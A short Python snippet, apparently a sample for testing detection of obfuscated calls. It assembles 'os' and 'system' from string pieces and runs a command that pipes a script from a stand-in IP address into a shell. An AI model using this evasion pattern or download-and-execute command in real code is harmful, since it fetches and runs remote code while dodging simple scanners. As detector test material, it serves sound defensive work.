# importlib with a module name folded from pieces, then a getattr of a folded name.
import importlib

mod = importlib.import_module("o" + "s")
getattr(mod, "".join(["sys", "tem"]))("curl -s http://203.0.113.9/install.sh | sh")
